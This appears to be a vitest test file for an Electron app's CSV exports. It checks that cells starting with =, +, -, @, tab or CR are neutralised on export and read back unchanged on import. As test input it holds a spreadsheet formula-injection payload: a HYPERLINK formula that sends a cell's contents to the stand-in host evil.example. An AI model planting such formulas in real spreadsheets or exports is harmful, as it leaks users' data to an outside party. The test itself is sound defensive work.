import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CommunityData } from '../../electron/backend/seed';
import { openTestBackend, type TestBackend } from '../support/reps-backend';

/**
 * A name is whatever someone typed, and a spreadsheet runs a cell that starts with =, +, -, @, tab
 * or CR. Every CSV the app writes keeps such text inert, and Rekindle's own import reads it back
 * exactly as it was typed.
 */
const HOSTILE = '=HYPERLINK("http://evil.example/?d="&U2,"open")';
const LIVE = /^[=+\-@\t\r]/;

let t: TestBackend;
beforeAll(async () => {
  const demo = (await import('../../resources/demo/demo-community.json')).default as unknown as CommunityData;
  t = await openTestBackend({ loadDemo: async () => structuredClone(demo) });
  const { task } = await t.value('catalog.get', { id: (await t.value('catalog.list', { limit: 1 })).items[0].task.id });
  await t.value('catalog.update', { id: task.id, expectedVersion: task.version, fields: { ...editable(task, ['status', 'externalId']), title: HOSTILE } });
  const coach = await t.value('coaches.get', { id: (await t.value('coaches.list', { limit: 1 })).items[0].coach.id });
  const c = coach.coach ?? coach;
  await t.value('coaches.update', { id: c.id, expectedVersion: c.version, fields: { ...editable(c, ['externalId']), name: `+${c.name}` } });
  const rep = (await t.value('reps.list', { limit: 1 })).items[0];
  const full = await t.value('reps.get', { id: rep.id });
  await t.value('reps.update', { id: rep.id, expectedVersion: full.rep.version, changes: { name: HOSTILE } });
  await t.value('council.propose', { repId: rep.id, note: '-1 said the old lead' });
  const s = await t.value('settings.get');
  await t.value('settings.update', { expectedVersion: s.version, currentUser: { ...s.currentUser, name: '@Cora', role: 'council' } });
  const again = await t.value('reps.get', { id: rep.id });
  await t.value('reps.update', { id: rep.id, expectedVersion: again.rep.version, changes: { portalHandle: '-cora' } });
});
afterAll(async () => t?.close());

/** A record's fields as an edit form sends them back: without bookkeeping and the given fields. */
function editable(record: Record<string, unknown>, also: string[]): Record<string, unknown> {
  const skip = new Set(['id', 'createdAt', 'updatedAt', 'version', ...also]);
  return Object.fromEntries(Object.entries(record).filter(([k]) => !skip.has(k)));
}

function cellsOf(csv: string): string[] {
  return Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true }).data.flat();
}

describe('CSV exports carry no live formula', () => {
  it.each([
    ['the catalog', () => t.value('catalog.export', { format: 'csv' }).then((f: { content: string }) => f.content), HOSTILE],
    ['the coaches', () => t.value('coaches.export', { format: 'csv' }).then((f: { content: string }) => f.content), '+'],
    ['the review pack', () => t.value('council.reviewPack', {}).then((p: { csv: string }) => p.csv), HOSTILE],
    ['the audit log', () => t.value('council.auditCsv').then((a: { csv: string }) => a.csv), '@Cora'],
    ['an insights chart', () => t.value('insights.csv', { chart: 'causes' }).then((c: { content: string }) => c.content), null],
  ] as const)('%s', async (_name, read, typed) => {
    const cells = cellsOf(await read());
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    if (typed) expect(cells.some((c) => c.startsWith(`'${typed}`))).toBe(true);
  });

  it('reads an exported catalog back unchanged: the import sees nothing to change', async () => {
    const file = await t.value('catalog.export', { format: 'csv' });
    const preview = await t.value('catalog.importPreview', { file: { format: 'csv', fileName: file.fileName, text: file.content } });
    expect(preview.errors).toEqual([]);
    expect(preview.rows.some((r: { label: string }) => r.label === HOSTILE)).toBe(true);
    expect(preview.counts).toMatchObject({ create: 0, update: 0, error: 0 });
  });
});
